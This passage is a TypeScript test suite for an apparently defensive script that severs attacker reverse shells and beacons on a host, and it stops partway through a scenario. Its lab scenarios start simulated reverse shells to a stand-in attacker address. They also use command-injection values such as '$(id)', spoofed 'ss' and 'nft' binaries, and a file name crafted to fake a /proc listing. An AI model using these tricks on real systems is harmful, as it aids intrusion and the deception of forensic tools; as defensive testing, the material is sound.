import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER, ATTACKER_V6, Lab, now, run, SCRIPT } from './lab.ts';
import { aliveInWorld, SHARED_FLOWS, type Step } from './world-agreement.ts';

export interface Scenario {
  readonly title: string;
  readonly body: () => Promise<readonly string[] | undefined>;
}

export const scenarios: Scenario[] = [];

function scenario(title: string, body: (lab: Lab) => Promise<readonly string[] | undefined>): void {
  scenarios.push({
    title,
    body: async () => {
      const lab = await Lab.start();
      try {
        return await body(lab);
      } finally {
        lab.stop();
      }
    },
  });
}

const SHELL = 4444;
const DORMANT = 4445;
const SHELL_V6 = 4446;
const POD = 4447;
const BEACON = 5353;
const LOGIN = 22;
const AGENT = 443;

async function liveShell(lab: Lab): Promise<void> {
  lab.start('reverse_shell', ATTACKER, SHELL);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
}

// ------------------------------------------------------------------------------- what the kernel does to a tracked flow

scenario('a group swapped to nothing leaves the shell running and blocks what is new', async (lab) => {
  await liveShell(lab);
  lab.swapGroup();
  await sleep(1000);
  await lab.alive(SHELL);
  assert.equal(lab.tracked(SHELL)?.state, 'ESTABLISHED');
  assert.equal(lab.canDial(ATTACKER, 4448), false);
});

scenario(
  'a deny at the subnet stops the packets; the entry lives on, refreshed by retransmissions; lifted early, the shell revives',
  async (lab) => {
    await liveShell(lab);
    lab.swapGroup();
    lab.aclDeny();
    const deniedAt = now();
    await sleep(700);
    let refreshed = 0;
    let before = lab.tracked(SHELL)?.seconds ?? 0;
    for (const end = now() + 4; now() < end; await sleep(200)) {
      const entry = lab.tracked(SHELL);
      assert.equal(entry?.state, 'ESTABLISHED');
      // The timer only ever falls by itself: one that rises, or stands where a second has passed, was set anew.
      if ((entry?.seconds ?? 0) > before) refreshed += 1;
      before = entry?.seconds ?? 0;
    }
    assert.ok(refreshed > 0, 'no retransmission refreshed the entry');
    assert.equal(lab.dataSince(SHELL, deniedAt + 0.3), 0);
    const liftedAt = now();
    lab.aclLift();
    await lab.until('the shell revives', () => lab.dataSince(SHELL, liftedAt) > 1, 15);
    return [`revived ${(now() - liftedAt).toFixed(1)} s after the deny was lifted`];
  },
);

scenario(
  'our script closes the socket, the reset ends the tracked entry, and nothing revives once everything is lifted',
  async (lab) => {
    await liveShell(lab);
    const { flows, verdict } = lab.script('cut');
    const cutAt = now();
    lab.swapGroup();
    lab.aclDeny();
    const shell = flows.find(({ remotePort }) => remotePort === SHELL);
    assert.deepEqual([shell?.after, shell?.openedBy, shell?.remoteAddress], ['gone', 'instance', ATTACKER]);
    assert.deepEqual([...verdict.sources].sort(), ['proc', 'ss']);
    assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
    await lab.until('the attacker sees the reset', () => lab.sawReset(SHELL));
    await lab.until('the entry leaves ESTABLISHED', () => lab.tracked(SHELL)?.state !== 'ESTABLISHED', 15);
    lab.script('undo');
    lab.aclLift();
    const liftedAt = now();
    await sleep(3000);
    assert.equal(lab.dataSince(SHELL, liftedAt), 0);
    assert.ok(lab.lastPacket(SHELL) < cutAt + 0.1);
    await lab.alive(AGENT);
  },
);

scenario(
  'a cut behind a deny: the attacker never sees the reset, the tracking does, and nothing revives',
  async (lab) => {
    await liveShell(lab);
    lab.swapGroup();
    lab.aclDeny();
    await sleep(300);
    lab.script('cut');
    assert.equal(lab.sawReset(SHELL), false);
    await lab.until('the entry leaves ESTABLISHED', () => lab.tracked(SHELL)?.state !== 'ESTABLISHED', 15);
    lab.script('undo');
    lab.aclLift();
    const liftedAt = now();
    await sleep(3000);
    assert.equal(lab.dataSince(SHELL, liftedAt), 0);
  },
);

scenario('data under way and its acknowledgements lost: the reset ends the tracked entry all the same', async (lab) => {
  await liveShell(lab);
  // Acknowledgements are lost on the way in; what the victim sends still passes.
  lab.router(['nft', 'insert', 'rule', 'inet', 'acl', 'in', 'iifname', 'outside', 'ip', 'saddr', ATTACKER, 'drop']);
  await sleep(150);
  lab.script('cut');
  const cutAt = now();
  await lab.until('the attacker sees the reset', () => lab.sawReset(SHELL));
  await lab.until('the entry leaves ESTABLISHED', () => lab.tracked(SHELL)?.state !== 'ESTABLISHED', 15);
  await sleep(500);
  assert.ok(lab.lastPacket(SHELL) < cutAt + 0.2);
});

// ------------------------------------------------------------------------------------- every kind of flow, twenty times

const KINDS = [
  [SHELL, 'reverse shell with a pty'],
  [LOGIN, 'inbound login session'],
  [BEACON, 'UDP beacon'],
  [DORMANT, 'dormant shell, keepalives only'],
  [SHELL_V6, 'IPv6 reverse shell'],
  [POD, 'shell in another namespace'],
] as const;

const RUNS = Number(process.env['LAB_RUNS'] ?? 20);

async function everyKind(lab: Lab): Promise<void> {
  lab.start('reverse_shell', ATTACKER, SHELL);
  lab.start('beacon', ATTACKER, BEACON);
  lab.start('dormant_shell', ATTACKER, DORMANT);
  lab.start('reverse_shell', ATTACKER_V6, SHELL_V6);
  lab.startPod();
  lab.startAgent();
  await lab.dialIn();
  await lab.alive(SHELL, LOGIN, BEACON, SHELL_V6, POD, AGENT);
  await lab.until('the dormant shell is connected', () =>
    lab.events.some(({ kind, port }) => kind === 'accepted' && port === DORMANT),
  );
}

function median(values: readonly number[]): number {
  const sorted = values.toSorted((a, b) => a - b);
  const middle = Math.floor(sorted.length / 2);
  return sorted.length % 2 === 1 ? (sorted[middle] ?? 0) : ((sorted[middle - 1] ?? 0) + (sorted[middle] ?? 0)) / 2;
}

export const MEASURED = `one cut ends every kind of flow, and the agent goes on (${RUNS} runs)`;

scenarios.push({
  title: MEASURED,
  body: async () => {
    const last = new Map<number, number[]>();
    const took: number[] = [];
    for (let turn = 0; turn < RUNS; turn += 1) {
      const lab = await Lab.start();
      try {
        await everyKind(lab);
        const { flows, verdict, startedAt, seconds } = lab.script('cut', { remote: `${ATTACKER},${ATTACKER_V6}` });
        took.push(seconds);
        const cutAt = now();
        assert.equal(verdict.survived, 0);
        assert.deepEqual(verdict.errors, []);
        for (const [port, what] of KINDS) {
          const flow = flows.find(({ remotePort, localPort }) => (port === LOGIN ? localPort : remotePort) === port);
          assert.equal(flow?.after, 'gone', what);
          assert.equal(flow?.openedBy, port === LOGIN ? 'remote' : 'instance', what);
          assert.equal(flow?.namespace, port === POD ? 'netns:pod' : null, what);
        }
        assert.equal(
          flows.find(({ remotePort }) => remotePort === AGENT),
          undefined,
        );
        if (turn < 3) {
          await lab
            .until('every entry leaves ESTABLISHED', () => lab.trackedEstablished().length === 0, 15)
            .catch(() => {
              assert.deepEqual(lab.trackedEstablished(), []);
            });
        }
        await sleep(300);
        await lab.alive(AGENT);
        for (const [port] of KINDS) {
          assert.ok(lab.lastPacket(port) <= cutAt, `a packet of ${port} after the cut`);
          last.set(port, [...(last.get(port) ?? []), lab.lastPacket(port) - startedAt]);
        }
      } finally {
        lab.stop();
      }
    }
    return [
      `the script took ${median(took).toFixed(2)} s (median); seconds from its start to the last packet at the attacker, median and worst:`,
      ...KINDS.map(([port, what]) => {
        const values = last.get(port) ?? [];
        return `${what}: ${median(values).toFixed(2)}, ${Math.max(...values).toFixed(2)}`;
      }),
    ];
  },
});

// ------------------------------------------------------------------------------- the embedded world, held to the kernel

const PORT_OF = { shell: SHELL, login: LOGIN, beacon: BEACON };

const ORDERS: readonly (readonly Step[])[] = [
  ['swap', 'deny', 'lift'],
  ['deny', 'lift', 'swap'],
  ['cut', 'swap', 'deny', 'lift'],
  ['swap', 'deny', 'cut', 'lift'],
  ['swap', 'cut'],
];

for (const order of ORDERS) {
  scenario(`kernel and embedded world agree after each of: ${order.join(', ')}`, async (lab) => {
    lab.start('reverse_shell', ATTACKER, SHELL);
    lab.start('beacon', ATTACKER, BEACON);
    await lab.dialIn();
    await lab.alive(SHELL, LOGIN, BEACON);
    const changes = {
      swap: () => lab.swapGroup(),
      deny: () => lab.aclDeny(),
      lift: () => lab.aclLift(),
      // Without a rule left behind: only the closed sockets count here, as in the world's own call.
      cut: () => lab.script('cut', { remote: 'none' }),
    };
    for (const [index, step] of order.entries()) {
      const steps = order.slice(0, index + 1);
      const model = await aliveInWorld(steps);
      changes[step]();
      await sleep(300);
      const from = now();
      if (SHARED_FLOWS.some((name) => !model[name])) await sleep(1500);
      for (const name of SHARED_FLOWS) {
        const passed = () => lab.dataSince(PORT_OF[name], from) > 0;
        if (model[name]) await lab.until(`${name} passes after ${steps.join(', ')}, as in the world`, passed, 15);
        else assert.equal(passed(), false, `${name} passes after ${steps.join(', ')}; in the world it does not`);
      }
    }
  });
}

// ------------------------------------------------------------------------------------------------ shells and their tools

const SHELLS: readonly (readonly string[])[] = [['sh'], ['dash'], ['bash', '--posix'], ['busybox', 'ash']];
const AWKS = ['mawk', 'gawk', 'busybox awk'];

for (const shell of SHELLS) {
  scenario(`${shell.join(' ')} runs the script: list, cut, verify, undo`, async (lab) => {
    await everyKind(lab);
    const listed = lab.script('list', { shell });
    assert.ok(listed.flows.length >= KINDS.length && listed.flows.every(({ after }) => after === 'open'));
    const remote = `${ATTACKER},${ATTACKER_V6}`;
    const { verdict } = lab.script('cut', { shell, remote });
    assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
    const verified = lab.script('verify', { shell, remote });
    assert.deepEqual([verified.verdict.listed, verified.verdict.firewall], [0, 'nftables']);
    assert.equal(lab.canDial(ATTACKER, 4448), false);
    assert.equal(lab.script('undo', { shell }).verdict.firewall, 'none');
    assert.equal(lab.canDial(ATTACKER, 4448), true);
  });
}

for (const awk of AWKS) {
  scenario(`${awk} reads the tables as the others do`, async (lab) => {
    lab.victim(
      `printf '#!/bin/sh\\nexec ${awk} "$@"\\n' > /usr/bin/awk.new && chmod +x /usr/bin/awk.new && mv -f /usr/bin/awk.new /usr/bin/awk`,
    );
    await everyKind(lab);
    const { flows, verdict } = lab.script('cut', { remote: `${ATTACKER},${ATTACKER_V6}` });
    assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
    for (const [port] of KINDS) {
      const flow = flows.find(({ remotePort, localPort }) => (port === LOGIN ? localPort : remotePort) === port);
      assert.deepEqual([flow?.after, flow?.process], ['gone', 'python3']);
    }
  });
}

scenario('parameters that are not what they should be: nothing is printed, nothing is done', async (lab) => {
  await liveShell(lab);
  const odd: Record<string, string>[] = [
    { SSM_Verb: 'destroy' },
    { SSM_CaseId: 'a;b' },
    { SSM_CaseId: '' },
    { SSM_Pids: '1 2' },
    { SSM_Mode: 'both' },
    { SSM_Sessions: 'yes' },
    { SSM_Evidence: '51' },
    { SSM_Evidence: '1;id' },
    ...[
      '010.0.0.5',
      '10.0.0.256',
      '10.1',
      '10.0.0.0/8',
      '$(id)',
      '1.2.3.4,',
      ':::',
      '1:2:3',
      '::1::',
      'fe80::12345',
      '1.2.3.4 5',
    ].map((address) => ({ SSM_RemoteAddresses: address })),
  ];
  for (const environment of odd)
    assert.deepEqual(lab.scriptRaw('cut', { environment }), { status: 2, stdout: '' }, JSON.stringify(environment));
  await lab.alive(SHELL);
});

// --------------------------------------------------------------------------------------------------------- hostile hosts

scenario('without ss the owner is stopped, nothing is called proven, and undo lets it go on', async (lab) => {
  lab.victim('rm /usr/bin/ss');
  await liveShell(lab);
  const { flows, verdict } = lab.script('cut', { remote: 'none' });
  assert.deepEqual(verdict.sources, ['proc']);
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'open');
  assert.ok(verdict.survived === 1 && (verdict.stopped ?? []).length > 0);
  const from = now();
  await sleep(1000);
  assert.ok(lab.dataSince(SHELL, from + 0.2) === 0, 'the stopped shell still talks');
  await lab.alive(AGENT);
  lab.script('undo', { environment: { SSM_Pids: (verdict.stopped ?? []).join(',') } });
  await lab.alive(SHELL);
});

scenario(
  'without ss, a shell that ignores TERM, and killing opted in: it is killed and its socket gone',
  async (lab) => {
    lab.victim('rm /usr/bin/ss');
    lab.start('stubborn_shell', ATTACKER, SHELL);
    lab.startAgent();
    await lab.alive(SHELL, AGENT);
    const { flows, verdict } = lab.script('cut', { environment: { SSM_Survivors: 'kill' } });
    assert.deepEqual([verdict.survived, verdict.sources], [0, ['proc']]);
    assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'gone');
    await lab.alive(AGENT);
  },
);

scenario('a lying ss first in PATH is not asked', async (lab) => {
  await liveShell(lab);
  lab.victim(
    'mkdir -p /run/evil && for t in ss nft awk ls cat; do printf "#!/bin/sh\\nexit 0\\n" > /run/evil/$t; chmod +x /run/evil/$t; done',
  );
  const environment = { PATH: '/run/evil:/usr/bin:/bin' };
  const { flows, verdict } = lab.script('cut', { environment });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'gone');
  assert.deepEqual([verdict.survived, verdict.firewall, [...verdict.sources].sort()], [0, 'nftables', ['proc', 'ss']]);
});

scenario('an ss that was replaced and lies is contradicted by /proc', async (lab) => {
  await liveShell(lab);
  lab.victim(
    'printf "#!/bin/sh\\nexit 0\\n" > /usr/bin/ss.new && chmod +x /usr/bin/ss.new && mv -f /usr/bin/ss.new /usr/bin/ss',
  );
  const { flows, verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Survivors: 'leave' } });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'open');
  assert.equal(verdict.survived, 1);
});

scenario('a shell that dials again every 200 ms, to a peer nobody named: the peer is denied too', async (lab) => {
  lab.start('respawning_shell', ATTACKER, SHELL);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
  const { verdict } = lab.script('cut', { remote: 'none' });
  assert.deepEqual([verdict.survived, verdict.denied, verdict.firewall], [0, [ATTACKER], 'nftables']);
  const from = now();
  await sleep(1500);
  assert.equal(lab.dataSince(SHELL, from), 0);
  await lab.alive(AGENT);
});

scenario('20,000 sockets: all closed, the output bounded and its count right', async (lab) => {
  lab.start('many', ATTACKER, 5000, 10_000);
  lab.start('many', ATTACKER, 5001, 10_000);
  lab.startAgent();
  await lab.until('20,000 sockets are open', () => lab.events.filter(({ kind }) => kind === 'ready').length === 3, 60);
  const { verdict, raw, seconds, flows } = lab.script('cut');
  assert.deepEqual([verdict.listed, verdict.closed, verdict.survived], [20_000, 20_000, 0]);
  assert.ok(raw.length <= 20_000 && flows.length + verdict.omitted === 20_000);
  assert.ok(seconds < 60);
  await lab.alive(AGENT);
  return [`${seconds.toFixed(1)} s`];
});

scenario('a full disk and a read-only root do not matter', async (lab) => {
  await liveShell(lab);
  // The checkout may lie in one of the folders that are filled: it is kept aside and put back under its path.
  const documents = dirname(SCRIPT);
  lab.victim(`mount --bind ${documents} /mnt`);
  lab.victim(
    'for d in /tmp /var/tmp /dev/shm; do mount -t tmpfs -o size=4k tmpfs $d; head -c 100000 /dev/zero > $d/full; done 2>/dev/null; true',
  );
  lab.victim(`[ -e ${SCRIPT} ] || { mkdir -p ${documents} && mount --bind /mnt ${documents}; }`);
  lab.victim(
    'mount -o remount,bind,ro / && mount -o remount,ro /usr && ! touch /usr/x 2>/dev/null && ! touch /x 2>/dev/null',
  );
  for (const shell of SHELLS) assert.deepEqual(lab.script('list', { shell }).verdict.errors, []);
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
});

scenario('names made to break their reader are cleaned, and nobody becomes the agent by name', async (lab) => {
  lab.startAgent();
  const names = ['a\n@error x', '\u001b[31m"},{"v', '\'$(id)`\\"', 'x\t1\t2\t3', 'amazon-ssm-agen'];
  for (const name of names) lab.start('named_shell', ATTACKER, SHELL, Buffer.from(name).toString('hex'));
  await lab.until(
    'all are connected',
    () => lab.events.filter(({ kind, port }) => kind === 'accepted' && port === SHELL).length === names.length,
  );
  await lab.alive(SHELL);
  const { flows, verdict, raw } = lab.script('cut');
  assert.deepEqual([verdict.listed, verdict.survived, verdict.errors], [names.length, 0, []]);
  assert.ok(flows.every(({ process, pid }) => process !== null && /^[ -~]*$/.test(process) && (pid ?? 0) > 1));
  assert.match(raw, /^[\n -~]*$/);
  await lab.alive(AGENT);
});

scenario('two cuts at once, and a third after them: one table, no rule doubled, one undo removes it', async (lab) => {
  await liveShell(lab);
  lab.victim('nft add table inet theirs');
  const results = await lab.scriptsAtOnce('cut', 2);
  for (const { verdict } of results) assert.deepEqual([verdict.survived, verdict.firewall], [0, 'nftables']);
  const rules = lab.victim('nft list ruleset');
  lab.script('cut');
  assert.equal(lab.victim('nft list ruleset'), rules);
  assert.equal(rules.match(/jump peers/g)?.length, 3);
  lab.script('undo');
  assert.equal(lab.victim('nft list tables').trim(), 'table inet theirs');
});

scenario('iptables only: inserted first, named, held, and undone without touching other rules', async (lab) => {
  lab.victim(
    'rm /usr/sbin/nft && iptables -A OUTPUT -d 192.0.2.1 -j DROP && iptables -A INPUT -i lo -m comment --comment flowcut_case-10 -j ACCEPT',
  );
  const before = lab.victim('iptables -S; ip6tables -S');
  await liveShell(lab);
  const remote = `${ATTACKER},${ATTACKER_V6}`;
  const { verdict } = lab.script('cut', { remote });
  assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'iptables', []]);
  await lab.until('the attacker sees the reset', () => lab.sawReset(SHELL));
  assert.equal(lab.canDial(ATTACKER, 4448), false);
  assert.equal(lab.canDial(ATTACKER_V6, SHELL_V6), false);
  const rules = lab.victim('iptables -S');
  lab.script('cut', { remote });
  assert.equal(lab.victim('iptables -S'), rules);
  assert.equal(lab.script('verify', { remote }).verdict.firewall, 'iptables');
  assert.equal(lab.script('undo').verdict.firewall, 'none');
  assert.equal(lab.victim('iptables -S; ip6tables -S'), before);
});

scenario(
  'neither nftables nor iptables: the sockets are closed, and the verdict says that nothing holds the addresses',
  async (lab) => {
    lab.victim('rm /usr/sbin/nft /usr/sbin/iptables /usr/sbin/ip6tables');
    await liveShell(lab);
    const { verdict } = lab.script('cut');
    assert.deepEqual([verdict.survived, verdict.firewall], [0, 'none']);
    assert.deepEqual(verdict.errors, ['the host firewall does not hold the addresses']);
  },
);

scenario("the agent's own endpoint is never denied, even when the finding names it", async (lab) => {
  await liveShell(lab);
  const { verdict } = lab.script('cut', { remote: `${ATTACKER},203.0.113.5` });
  assert.deepEqual(verdict.denied, [ATTACKER]);
  assert.equal(verdict.errors.length, 1);
  await lab.alive(AGENT);
});

scenario('quarantine: nothing new leaves but the agent', async (lab) => {
  await liveShell(lab);
  const environment = { SSM_Mode: 'quarantine' };
  const { verdict } = lab.script('cut', { remote: 'none', environment });
  assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
  assert.equal(lab.canDial(ATTACKER, 4448), false);
  assert.equal(lab.canDial(ATTACKER_V6, SHELL_V6), false);
  assert.equal(lab.canDial('203.0.113.5', AGENT), true);
  await lab.alive(AGENT);
  lab.script('undo');
  assert.equal(lab.canDial(ATTACKER, 4448), true);
});

// ------------------------------------------------------------------------------------------------------------------ probes

/** The agent's endpoint as its socket shows it; the packets go to the attacker's address, as through a proxy that was named. */
const PROXIED = '203.0.113.9';

async function proxiedAgent(lab: Lab): Promise<void> {
  lab.victim(
    [
      'nft add table ip proxy',
      "nft 'add chain ip proxy out { type nat hook output priority -100 ; }'",
      `nft add rule ip proxy out ip daddr ${PROXIED} tcp dport 443 dnat to ${ATTACKER}:4448`,
    ].join(' && '),
  );
  lab.start('reverse_shell', ATTACKER, SHELL);
  lab.startAgent(PROXIED);
  await lab.alive(SHELL, 4448);
}

scenario('the probes: the peer cannot be reached any more, the agent can reach its endpoint', async (lab) => {
  await liveShell(lab);
  const { verdict, seconds } = lab.script('cut');
  assert.deepEqual(verdict.probes, { peer: 'unreachable', agent: 'reachable' });
  assert.ok(seconds < 5);
  const idle = lab.script('cut');
  assert.deepEqual(idle.verdict.probes, { peer: 'skipped', agent: 'reachable' });
});

scenario('a deny that cuts the agent off is taken back, and the verdict says so', async (lab) => {
  await proxiedAgent(lab);
  const { verdict } = lab.script('cut');
  assert.deepEqual(verdict.errors, [
    'the agent could not reach its endpoint behind the deny: the deny on this host is taken back',
    'the host firewall does not hold the addresses',
  ]);
  assert.deepEqual(
    [verdict.survived, verdict.firewall, verdict.denied, verdict.probes],
    [0, 'none', [], { peer: 'skipped', agent: 'reachable' }],
  );
  assert.equal(lab.canDial(PROXIED, 443), true);
});

scenario('a quarantine that cuts the agent off is taken back', async (lab) => {
  await proxiedAgent(lab);
  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Mode: 'quarantine' } });
  assert.deepEqual([verdict.survived, verdict.errors.length, verdict.probes?.agent], [0, 1, 'reachable']);
  assert.equal(lab.canDial(PROXIED, 443), true);
});

scenario('a firewall that claims the deny and lets everything pass is found out by the probe', async (lab) => {
  lab.start('stubborn_shell', ATTACKER, SHELL);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
  lab.victim(
    'mv /usr/sbin/nft /usr/sbin/nft-real && printf \'#!/bin/sh\\n[ "$1" = list ] && printf "hook input\\\\nhook output\\\\nhook forward\\\\njump peers\\\\njump peers\\\\njump peers\\\\n"\\nexit 0\\n\' > /usr/sbin/nft && chmod +x /usr/sbin/nft',
  );
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.probes?.peer, verdict.firewall], ['reachable', 'none']);
  assert.ok(verdict.errors.includes(`${ATTACKER} can still be reached from this host`));
});

scenario('with nothing that can connect the probes are skipped', async (lab) => {
  await liveShell(lab);
  lab.victim('rm /usr/bin/bash /usr/bin/python3');
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.survived, verdict.errors], [0, []]);
  assert.deepEqual(verdict.probes, { peer: 'skipped', agent: 'skipped' });
});

// ------------------------------------------------------------------------------------------- ping, raw and packet sockets

const BARE = [
  ['ping', 'icmp'],
  ['raw', 'raw'],
  ['packet', 'raw'],
] as const;

scenario('ping, raw and packet sockets are listed and stopped, and killed where that is opted in', async (lab) => {
  lab.victim('sysctl -qw net.ipv4.ping_group_range="0 1000"');
  for (const [kind] of BARE) lab.start('raw_shell', kind, ATTACKER);
  lab.startAgent();
  await lab.until('the echoes arrive', () => lab.echoesSince(0) > 5);
  const listed = lab.script('list', { remote: 'none' });
  const told = listed.flows.map(({ protocol, remoteAddress, remotePort, localPort, ipProtocol, process }) =>
    [protocol, remoteAddress, remotePort, localPort, ipProtocol, process].join(),
  );
  assert.deepEqual(told.toSorted(), ['icmp,0.0.0.0,,,,python3', 'raw,0.0.0.0,,,,python3', 'raw,0.0.0.0,,,1,python3']);
  const { flows, verdict, seconds } = lab.script('cut');
  const cutAt = now();
  // A kernel with raw_diag closes the raw one; none closes the other two.
  assert.ok(verdict.survived === 2 || verdict.survived === 3);
  assert.ok((verdict.stopped ?? []).length >= 2);
  assert.ok(flows.filter(({ after }) => after === 'open').length === verdict.survived);
  await sleep(500);
  assert.equal(lab.echoesSince(cutAt), 0);
  const killed = lab.script('cut', { environment: { SSM_Survivors: 'kill' } });
  assert.equal(killed.verdict.survived, 0);
  assert.equal(lab.script('list').verdict.listed, 0);
  await lab.alive(AGENT);
  return [`${seconds.toFixed(1)} s`];
});

scenario("a system daemon's raw and packet sockets are a note; nobody else's are, whatever its name", async (lab) => {
  const wrong = lab.copyPython('/usr/local/sbin/dhclient');
  const dhclient = lab.copyPython('/usr/sbin/dhclient');
  const script = new URL('peers.py', import.meta.url).pathname;
  const shell = (python: string, kind: string) =>
    lab.startShell(`exec ${python} -u ${script} raw_shell ${kind} ${ATTACKER}`);
  shell(dhclient, 'packet');
  await lab.until('the daemon has its socket', () => lab.victim('ss -0an').includes('p_'));
  const quiet = lab.script('cut', { remote: 'none' }).verdict;
  assert.deepEqual([quiet.listed, quiet.survived, quiet.stopped], [0, 0, []]);
  assert.match(quiet.notes?.join() ?? '', /\/usr\/sbin\/dhclient \(process \d+\) has a raw or packet socket/);
  // A DHCP client needs no ICMP; another path is another program; a container's root has its own /usr/sbin.
  shell(dhclient, 'raw');
  shell(wrong, 'packet');
  lab.startShell(`exec unshare --pid --fork ${dhclient} -u ${script} raw_shell packet ${ATTACKER}`);
  await lab.until('all three are there', () => lab.script('list', { remote: 'none' }).verdict.listed === 3);
});

scenario("a container's root that calls itself the agent is closed like anybody", async (lab) => {
  const script = new URL('peers.py', import.meta.url).pathname;
  lab.startShell(`exec unshare --pid --fork /usr/bin/amazon-ssm-agent -u ${script} beacon ${ATTACKER} ${BEACON}`);
  lab.startAgent();
  await lab.alive(BEACON, AGENT);
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.listed, verdict.survived], [1, 0]);
  await lab.alive(AGENT);
});

// ---------------------------------------------------------------------------------------------------------------- evidence

scenario(
  'the processes behind the flows: tree, command line, open files and hash, also of a deleted executable',
  async (lab) => {
    const implant = lab.copyPython('/run/implant');
    const sum = lab.victim(`sha256sum ${implant}`).slice(0, 64);
    const script = new URL('peers.py', import.meta.url).pathname;
    lab.startShell(
      `cd /run && exec 7>/run/loot && env -i ${implant} -W 'ignore:a\tb|"c\\' -u ${script} reverse_shell ${ATTACKER} ${SHELL} & sleep 1; rm /run/implant /run/loot; wait`,
    );
    lab.startAgent();
    await lab.alive(AGENT);
    await lab.until('the shell is there', () =>
      lab.events.some(({ kind, port }) => kind === 'accepted' && port === SHELL),
    );
    await sleep(1500);
    const { processes = [], verdict, raw } = lab.script('cut');
    const owner = processes.find(({ role }) => role === 'owner');
    assert.equal(owner?.executable, '/run/implant (deleted)');
    assert.equal(owner?.sha256, sum);
    assert.equal(owner?.directory, '/run');
    assert.match(owner?.commandLine ?? '', /-W ignore:a\?b\|"c\\ -u .*reverse_shell 198\.51\.100\.7 4444/);
    assert.ok(owner?.openFiles.includes('/run/loot (deleted)'));
    const child = processes.find(({ role, parentPid }) => role === 'descendant' && parentPid === owner?.pid);
    assert.ok(child?.executable !== undefined && child.sha256 !== null);
    assert.ok(processes.some(({ role, pid }) => role === 'ancestor' && pid === owner?.parentPid));
    assert.deepEqual([verdict.processes, verdict.processesOmitted], [processes.length, 0]);
    assert.ok(raw.length < 20_000);
  },
);

scenario(
  'evidence is bounded, can be turned off, and a command line without end does not hold the cut up',
  async (lab) => {
    await everyKind(lab);
    assert.equal(lab.script('list').processes, undefined);
    const none = lab.script('cut', { environment: { SSM_Evidence: 'none' } });
    assert.equal(none.processes, undefined);
    lab.script('undo');
    lab.startShell(`exec sh -c 'sleep 600; :' ${'x'.repeat(100_000)}`);
    lab.start('many', ATTACKER, 5000, 200);
    await lab.until(
      '200 sockets are open',
      () => lab.events.some(({ kind, held }) => kind === 'ready' && held === 200),
      20,
    );
    for (let n = 0; n < 8; n += 1) lab.start('stubborn_shell', ATTACKER, SHELL);
    await lab.alive(SHELL);
    const { processes = [], verdict, raw, flows } = lab.script('cut', { environment: { SSM_Evidence: '5' } });
    assert.ok(processes.length <= 5 && processes.length > 0);
    assert.equal(processes.length + (verdict.processesOmitted ?? 0) > 5, true);
    assert.ok(raw.length <= 20_000 && flows.length + verdict.omitted === verdict.listed);
    assert.ok((processes[0]?.commandLine?.length ?? 999) <= 256);
  },
);

// ---------------------------------------------------------------------------------------------------------------- sessions

scenario('Sessions=stop ends a login and what it left behind; keep leaves that running', async (lab) => {
  const sshd = lab.copyPython('/usr/sbin/sshd');
  await lab.dialIn(sshd);
  await lab.alive(LOGIN);
  lab.script('cut');
  await sleep(300);
  assert.equal(lab.running('nohup-left-behind'), true);
  lab.script('undo');
  lab.victim("kill $(grep -lsa '^nohup-left-behind' /proc/[0-9]*/cmdline | cut -d/ -f3)");
  lab.redial();
  const from = now();
  await lab.until('a second login', () => lab.dataSince(LOGIN, from) > 1);
  lab.victim(
    [
      'printf \'#!/bin/sh\\necho "$@" >> /run/loginctl\\ncase $1 in list-sessions) echo "c1 0 root"; echo "7 0 root pts/0";; show-session) [ "$2" = 7 ] && echo Remote=yes || echo Remote=no; echo Leader=99999;; esac\\n\' > /usr/bin/loginctl',
      'chmod +x /usr/bin/loginctl',
    ].join(' && '),
  );
  const { verdict } = lab.script('cut', { environment: { SSM_Sessions: 'stop' } });
  assert.deepEqual([verdict.survived, verdict.sessionsEnded], [0, 2]);
  assert.ok((verdict.killed ?? []).length >= 1);
  assert.equal(lab.running('nohup-left-behind'), false);
  assert.deepEqual(lab.victim('grep terminate /run/loginctl').trim(), 'terminate-session 7');
  // Who accepts logins goes on.
  assert.match(lab.victim('ss -tln'), /:22 /);
});

scenario("Sessions=stop ends the agent's sessions and not the agent", async (lab) => {
  const worker = lab.copyPython('/usr/bin/ssm-session-worker');
  const script = new URL('peers.py', import.meta.url).pathname;
  lab.startShell(`exec ${worker} -u ${script} stubborn_shell ${ATTACKER} ${SHELL}`);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
  assert.equal(lab.script('cut', { remote: 'none' }).verdict.listed, 0);
  const { verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Sessions: 'stop' } });
  assert.deepEqual([verdict.listed, verdict.survived, verdict.sessionsEnded], [1, 0, 1]);
  assert.equal(lab.running(worker), false);
  await lab.alive(AGENT);
});

// ---------------------------------------------------------------------------------------------------------------- file names

scenario('a file name made to look like a listing gives nobody the socket of another', async (lab) => {
  await liveShell(lab);
  const owner = (): number | null | undefined =>
    lab.script('list').flows.find(({ remotePort }) => remotePort === SHELL)?.pid;
  const before = owner();
  // An open file whose path goes on, line by line, as the listing of process 1's descriptors would.
  const inode = lab.victim(`ss -tne dport = :${SHELL} | grep -o 'ino:[0-9]*' | cut -d: -f2`).trim();
  const path = `/run/x\\n/proc/1/fd:\\nlrwx 1 0 0 64 d 3 -> socket:[${inode}]`;
  lab.startShell(`p="$(printf '${path}')" && mkdir -p "\${p%/*}" && exec 8>"$p" && exec sleep 60`);
  await sleep(300);
